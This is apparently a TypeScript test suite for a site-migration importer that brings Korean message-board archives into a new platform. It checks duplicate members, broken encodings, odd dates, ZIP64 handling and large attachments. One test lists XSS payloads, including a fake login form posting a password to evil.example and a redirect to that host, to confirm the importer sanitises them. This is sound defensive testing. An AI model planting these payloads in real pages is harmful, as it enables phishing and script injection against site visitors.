/** @module-tag full */
import { env } from "cloudflare:workers";
import { zipSync } from "fflate";
import { expect, test } from "vitest";
import { ARCHIVE_PROBLEMS } from "#worker/contract/moving/rules.ts";
import {
  checkMove,
  commitMove,
  finishSteps,
  issueCounts,
  onceEach,
  sendArchives,
  startMove,
} from "../../support/move.ts";
import {
  folderArchive,
  oldComment,
  oldDocument,
  oldFile,
  oldMember,
  oldNote,
  rdxArchive,
} from "../../samples/moving-archive.ts";
import { FOLDER, SITE } from "../../support/moving-site.ts";
import { createAdministratorSession, createUser } from "../../support/people.ts";
import { makePng } from "../../samples/picture-samples.ts";
import { readRows } from "../../support/test-database.ts";

const bytes = (text: string) => new TextEncoder().encode(text) as Uint8Array<ArrayBuffer>;
const zipOf = (files: Record<string, string>) =>
  zipSync(
    Object.fromEntries(Object.entries(files).map(([name, text]) => [name, bytes(text)])),
  ) as Uint8Array<ArrayBuffer>;

test("the commit reports the same as the preview", async () => {
  const { accessToken: token } = await createAdministratorSession();
  const taken = await createUser();
  const site = {
    ...SITE,
    members: [
      ...SITE.members,
      oldMember(taken.userId, { email_address: "twice@old.example.kr" }),
      oldMember("second", {
        email_address: "twice@old.example.kr",
        profile_image: "url:data/member_image/se/second.gif",
      }),
      oldMember("no key", { email_address: "no mail" }),
    ],
    notes: [
      ...SITE.notes,
      oldNote(9, "lee", "kim_1", { content: "ì\u0095\u0088ë\u0085\u0095", files: [oldFile(1, "a.txt", "x")] }),
    ],
    // Two members of one address, in two lists.
    perList: 1,
  };
  const id = await sendArchives(token, [
    { kind: "rdx", bytes: rdxArchive(site) },
    { kind: "files", bytes: folderArchive(FOLDER) },
  ]);
  const checked = await checkMove(token, id);
  expect(checked.committed).toEqual({ members: 0, boards: 0, items: 0, comments: 0, files: 0, notes: 0 });
  expect(issueCounts(checked)).toMatchObject(
    onceEach(`member-twice member-id-taken member-mail-taken member-no-key member-picture member-password
      item-date item-reply comment-secret comment-parent file-missing file-type note-owner note-files
      text-repaired`),
  );
  expect((await startMove(token, checked)).code).toBe("SUCCESS");
  const committed = await finishSteps(token, id);
  expect(committed.status).toBe("committed");
  expect(issueCounts(committed)).toEqual(issueCounts(checked));
  expect(await readRows("SELECT content FROM old_note WHERE content = '안녕'")).toHaveLength(1);
});

const FOREIGN: [
  name: string,
  fileName: string,
  bytes: Uint8Array<ArrayBuffer>,
  problem: keyof typeof ARCHIVE_PROBLEMS,
][] = [
  ["a dump", "gnuboard.sql", bytes("-- phpMyAdmin SQL Dump\n".repeat(99)), "dump"],
  ["a packed dump", "gnuboard.sql.gz", bytes("\u001f\u008b binary".repeat(99)), "dump"],
  ["a dump in a zip", "backup.zip", zipOf({ "backup/gnuboard.sql": "-- phpMyAdmin SQL Dump" }), "dump"],
  ["a folder of cohorts", "동문.zip", zipOf({ "동문/1기.xlsx": "PK", "동문/2기.csv": "이름,기수" }), "sheets"],
  ["one sheet", "1기.xlsx", zipOf({ "[Content_Types].xml": "<x/>", "xl/workbook.xml": "<x/>" }), "sheets"],
  ["a folder of files", "data.zip", zipOf({ "data/file/free/1.png": "x" }), "no-index"],
];

test.each(FOREIGN)("%s is refused with a hint where to upload it", async (_name, fileName, given, problem) => {
  const { accessToken: token } = await createAdministratorSession();
  const view = await checkMove(token, await sendArchives(token, [{ kind: "rdx", bytes: given, fileName }]));
  expect([view.status, view.problem]).toEqual(["failed", `${fileName}: ${ARCHIVE_PROBLEMS[problem]}`]);
});

test("items without a number or comments without an item are reported", async () => {
  const { accessToken: token } = await createAdministratorSession();
  const documents = [
    oldDocument(1, { comments: [oldComment(2, { parent_id: 77 })] }),
    oldDocument(0, { comments: [oldComment(4)] }),
    JSON.stringify(oldComment(5, { id: null })),
  ];
  const archive = rdxArchive({
    boards: { free: { title: "자유", documents } },
    files: { "boards/lost_1.jsonl": `${JSON.stringify(oldDocument(9))}\n` },
  });
  const view = await commitMove(token, await sendArchives(token, [{ kind: "rdx", bytes: archive }]));
  expect(view.committed).toMatchObject({ items: 1, comments: 1 });
  expect(issueCounts(view)).toEqual({ "entry-unlisted": 1, "line-broken": 2, "comment-parent": 1 });
  expect(view.issues.find(({ code }) => code === "entry-unlisted")?.subjects).toEqual([
    "old-0.zip: boards/lost_1.jsonl",
  ]);
});

test("impossible dates are adjusted with a report", async () => {
  const { accessToken: token } = await createAdministratorSession();
  const documents = ["19000101000000", "20991231235959", "00000000000000", "20240230120000", "2024", null].map(
    (regdate, at) =>
      oldDocument(at + 1, {
        regdate,
        last_update: at < 2 ? "20200101000000" : null,
        comments: [oldComment(at + 100, { regdate })],
      }),
  );
  const view = await commitMove(
    token,
    await sendArchives(token, [{ kind: "rdx", bytes: rdxArchive({ boards: { free: { title: "자유", documents } } }) }]),
  );
  expect(view.committed).toMatchObject({ items: 6, comments: 6 });
  expect(issueCounts(view)).toEqual({ "item-date": 12 });
  const dates = await readRows(
    "SELECT created_date AS d FROM board_item WHERE board_code = 'old-free' ORDER BY item_no",
  );
  expect(dates.map(({ d }) => new Date(Number(d)).getUTCFullYear())).toEqual([2019, 2019, 2000, 2000, 2000, 2000]);
});

test("broken characters are repaired or reported in every kind of record", async () => {
  const { accessToken: token } = await createAdministratorSession();
  // '가나다' in EUC-KR and '안녕' in UTF-8, both misread as Latin-1.
  const [misread, other, lost] = ["°¡³ª´Ù", "ì\u0095\u0088ë\u0085\u0095", "회의\ufffd록"];
  const documents = [
    oldDocument(1, { title: misread, content: `<p>${other}</p>` }),
    oldDocument(2, { title: lost, comments: [oldComment(3, { content: other })] }),
    oldDocument(4, { title: "온전한 글" }),
  ];
  const archive = rdxArchive({
    members: [oldMember("kim", { user_name: misread }), oldMember("lee", { user_name: lost })],
    notes: [oldNote(1, "lee", "kim", { content: lost })],
    boards: { free: { title: "자유", documents } },
  });
  const view = await commitMove(token, await sendArchives(token, [{ kind: "rdx", bytes: archive }]));
  expect(issueCounts(view)).toEqual({ "text-repaired": 3, "text-broken": 3 });
  const titles = await readRows("SELECT title, content FROM board_item WHERE board_code = 'old-free' ORDER BY item_no");
  expect(titles.map(({ title }) => title)).toEqual(["가나다", lost, "온전한 글"]);
  expect(titles[0]?.content).toBe("<p>안녕</p>");
  expect(await readRows("SELECT content FROM board_item_comment")).toEqual([{ content: "안녕" }]);
  expect(
    await readRows(
      "SELECT user_name AS name FROM user WHERE password_hash LIKE 'imported%' ORDER BY created_date, rowid",
    ),
  ).toEqual([{ name: "가나다" }, { name: lost }]);
});

const ATTACKS = [
  `<img src=x onerror=alert(1)>`,
  `<svg/onload=alert(1)><p>글</p>`,
  `<a href="javascript:alert(1)">x</a><a href=" jav&#x09;ascript:alert(1)">y</a>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe><p>글</p>`,
  `<p style="background:url(javascript:alert(1));position:fixed">글</p>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<form action="https://evil.example"><input name="password"><button>확인</button></form><p>글</p>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/"><p>글</p>`,
  `<object data="x.swf"></object><embed src="x.swf"><p>글</p>`,
  `<p>${"<b>".repeat(5000)}글`,
];

test("malicious HTML is sanitised on import, or reported", async () => {
  const { accessToken: token } = await createAdministratorSession();
  const documents = ATTACKS.map((content, at) =>
    oldDocument(at + 1, { content, title: content.slice(0, 60), comments: [oldComment(at + 100, { content })] }),
  );
  const view = await commitMove(
    token,
    await sendArchives(token, [{ kind: "rdx", bytes: rdxArchive({ boards: { free: { title: "자유", documents } } }) }]),
  );
  const items = await readRows("SELECT content FROM board_item WHERE board_code = 'old-free' ORDER BY item_no");
  expect(items.length + (issueCounts(view)["item-long"] ?? 0)).toBe(ATTACKS.length);
  for (const { content } of items)
    expect(String(content)).not.toMatch(
      /<(?:script|svg|iframe|math|form|input|meta|base|object|embed|style)|\son\w+\s*=|javascript:|position|url\(/i,
    );
});

test("a ZIP64 archive with separate files is read", async () => {
  const { accessToken: token } = await createAdministratorSession();
  const picture = makePng(20, 20);
  const place = "files/attach/images/123/456/그림.png";
  const documents = [
    oldDocument(456, {
      content: `<p>글</p><p><img src="./${place}" alt="그림"></p>`,
      files: [
        oldFile(501, "그림.png", place, { path: `url:${place}` }),
        oldFile(502, "회의록.hwp", "files/attach/binaries/123/456/abc", {
          path: "url:files/attach/binaries/123/456/abc",
        }),
      ],
    }),
  ];
  const archive = asZip64(
    rdxArchive({
      members: [oldMember("kim")],
      boards: { notice: { title: "공지", documents } },
      index: { source: "Rhymix", tz: "Asia/Seoul" },
    }),
  );
  const folder = asZip64(
    folderArchive({
      [`public_html/${place}`]: picture,
      "public_html/files/attach/binaries/123/456/abc": new Uint8Array([
        0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 1,
      ]),
    }),
  );
  const view = await commitMove(
    token,
    await sendArchives(token, [
      { kind: "rdx", bytes: archive },
      { kind: "files", bytes: folder },
    ]),
  );
  expect(view.committed).toMatchObject({ members: 1, items: 1, files: 2 });
  expect(issueCounts(view)).toEqual({});
  expect(await readRows("SELECT file_name AS name, purpose, status FROM file ORDER BY purpose")).toEqual([
    { name: "회의록.hwp", purpose: "board", status: "attached" },
    { name: "그림.png", purpose: "image", status: "attached" },
  ]);
});

/** Full size: `ATTACHMENT_MB=300 npx vitest run --project worker test/api/moving/bad-input.test.ts`. */
const ATTACHMENT_MB = Number(process.env.ATTACHMENT_MB || 10);

test(`an attachment of ${ATTACHMENT_MB} MB is imported completely, stored or deflated`, async () => {
  const { accessToken: token } = await createAdministratorSession();
  const large = new Uint8Array(ATTACHMENT_MB * 1_000_000);
  for (let at = 0; at < large.byteLength; at += 65_536) crypto.getRandomValues(large.subarray(at, at + 65_536));
  const document = oldDocument(1, {
    files: [oldFile(1, "강의.mp4", "data/file/free/a.mp4"), oldFile(2, "강의 2.zip", "data/file/free/b.zip")],
  });
  large.set([0x50, 0x4b, 0x03, 0x04]);
  const archive = rdxArchive({ boards: { free: { title: "자유", documents: [document] } } });
  const folder = zipSync({
    "data/file/free/a.mp4": [large, { level: 0 }],
    "data/file/free/b.zip": [large, { level: 1 }],
  }) as Uint8Array<ArrayBuffer>;
  const id = await sendArchives(token, [
    { kind: "rdx", bytes: archive },
    { kind: "files", bytes: folder },
  ]);
  const view = await commitMove(token, id);
  expect([view.committed.files, issueCounts(view)]).toEqual([2, {}]);
  const files = await readRows("SELECT size, hash, storage_key AS key FROM file WHERE board_code = 'old-free'");
  expect(files.map(({ size }) => size)).toEqual([large.byteLength, large.byteLength]);
  const digest = Buffer.from(await crypto.subtle.digest("SHA-256", large)).toString("hex");
  for (const { key } of files) {
    const object = await env.FILES.get(String(key));
    const stored = Buffer.from(await crypto.subtle.digest("SHA-256", await (object as R2ObjectBody).arrayBuffer()));
    expect(stored.toString("hex")).toBe(digest);
  }
});

const CENTRAL = 0x02014b50;
const END_BYTES = 22;

/** Converts a zip to ZIP64 fields, as tools write for archives beyond 4 GB. */
function asZip64(zip: Uint8Array): Uint8Array<ArrayBuffer> {
  const view = new DataView(zip.buffer, zip.byteOffset, zip.byteLength);
  const end = zip.byteLength - END_BYTES;
  const count = view.getUint16(end + 10, true);
  const start = view.getUint32(end + 16, true);
  const parts: Uint8Array[] = [zip.slice(0, start)];
  let size = 0;
  for (let at = start, index = 0; index < count; index++) {
    if (view.getUint32(at, true) !== CENTRAL) throw new Error("no entry");
    const nameLength = view.getUint16(at + 28, true);
    const length = 46 + nameLength + view.getUint16(at + 30, true) + view.getUint16(at + 32, true);
    const head = zip.slice(at, at + 46 + nameLength);
    const own = new DataView(head.buffer);
    const extra = new DataView(new ArrayBuffer(28));
    extra.setUint16(0, 1, true);
    extra.setUint16(2, 24, true);
    for (const [place, field] of [24, 20, 42].entries()) {
      extra.setBigUint64(4 + place * 8, BigInt(own.getUint32(field, true)), true);
      own.setUint32(field, 0xffffffff, true);
    }
    own.setUint16(30, 28, true);
    own.setUint16(32, 0, true);
    parts.push(head, new Uint8Array(extra.buffer));
    size += head.byteLength + 28;
    at += length;
  }
  const tail = new DataView(new ArrayBuffer(56 + 20 + END_BYTES));
  tail.setUint32(0, 0x06064b50, true);
  tail.setBigUint64(4, 44n, true);
  tail.setBigUint64(24, BigInt(count), true);
  tail.setBigUint64(32, BigInt(count), true);
  tail.setBigUint64(40, BigInt(size), true);
  tail.setBigUint64(48, BigInt(start), true);
  tail.setUint32(56, 0x07064b50, true);
  tail.setBigUint64(64, BigInt(start + size), true);
  tail.setUint32(72, 1, true);
  tail.setUint32(76, 0x06054b50, true);
  for (const [at, value] of [
    [84, 0xffff],
    [86, 0xffff],
  ] as const)
    tail.setUint16(at, value, true);
  tail.setUint32(88, 0xffffffff, true);
  tail.setUint32(92, 0xffffffff, true);
  parts.push(new Uint8Array(tail.buffer));
  const whole = new Uint8Array(parts.reduce((sum, part) => sum + part.byteLength, 0));
  let place = 0;
  for (const part of parts) {
    whole.set(part, place);
    place += part.byteLength;
  }
  return whole;
}
